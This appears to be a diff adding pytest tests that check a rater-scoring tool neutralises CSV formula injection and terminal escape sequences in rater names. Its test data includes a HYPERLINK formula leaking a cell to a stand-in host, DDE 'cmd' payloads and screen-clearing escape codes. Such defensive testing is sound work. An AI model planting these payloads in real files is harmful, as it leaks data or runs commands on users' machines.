@@ -67,3 +67,86 @@ def test_ids_that_yaml_would_change_keep_what_the_user_wrote(monkeypatch):
 def test_there_are_hostile_cases_of_every_class_started():
     classes = {case.name.split("-")[0] for case in CASES}
     assert "yaml" in classes and len(CASES) >= 20
+
+
+# --------------------------------------------------------------------------------------------
+# Formulas in CSV and escapes in the terminal: names are data, never commands
+
+RESPONSE_DATA = TESTS / "cases" / "responses" / "_data"
+KEY = {"q1": "I", "q2": "II", "q3": "III", "q4": "IV", "q5": "II"}  # the demo quiz's reference levels
+FORMULA_NAMES = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+TERMINAL_NAMES = [
+    "Ana\x1b[2J\x1b[H",  # clear the screen
+    "Bo\x1b]0;pwned\x07",  # set the window title
+    "Cy\x1b[31mred",  # colour
+    "Di\rOverwritten",
+    "Ed\x9b2J",  # the one-byte CSI
+    "Fe\x00\x08\x7f",
+]
+
+
+def _responses_csv(path: Path, names: list[str]) -> Path:
+    import csv
+
+    from raterkit.csvcells import protect
+
+    with path.open("w", newline="", encoding="utf-8") as f:
+        writer = csv.writer(f)
+        writer.writerow(["rater", "item", "rating"])
+        for name in names:
+            writer.writerows([protect(name), item, level] for item, level in KEY.items())
+    return path
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+def test_score_csv_writes_formula_like_names_as_text(tmp_path, capsys, name):
+    import csv
+    import io
+
+    path = _responses_csv(tmp_path / "answers.csv", [name, "Plain Name"])
+    code = main(["score", str(path), "--format", "csv", "--data", str(RESPONSE_DATA)])
+    out = capsys.readouterr().out
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out)))
+    first = [row[0] for row in rows[1:]]
+    assert (first[0].startswith("'") and first[0][1:].startswith(name.lstrip("\t\r")[:1])) or "\\x0" in first[0]
+    assert first[1] == "Plain Name"
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+        assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in row)
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+def test_a_protected_csv_reads_back_with_the_original_name(tmp_path, name):
+    from raterkit.responses import read_responses
+
+    rs = read_responses([_responses_csv(tmp_path / "answers.csv", [name])], levels=["I", "II", "III", "IV"])
+    assert rs.problems == [] and rs.raters() == [name.strip()]
+
+
+@pytest.mark.parametrize("name", TERMINAL_NAMES)
+def test_control_characters_in_names_are_printed_visibly(tmp_path, capsys, name):
+    path = _responses_csv(tmp_path / "answers.csv", [name])
+    for fmt in ("table", "csv"):
+        code = main(["score", str(path), "--format", fmt, "--data", str(RESPONSE_DATA)])
+        captured = capsys.readouterr()
+        assert code == 0
+        shown = captured.out + captured.err
+        assert not any(ch in shown for ch in "\x00\x07\x08\x1b\x7f\x9b\r")
+        assert "\\x" in captured.out
+
+
+def test_problems_quoting_file_content_are_printed_visibly(tmp_path, capsys):
+    path = tmp_path / "answers.csv"
+    path.write_text("rater,item,rating\nAna,q1,\x1b[2JIV\n", encoding="utf-8")
+    main(["score", str(path), "--data", str(RESPONSE_DATA)])
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\\x1b[2JIV" in err
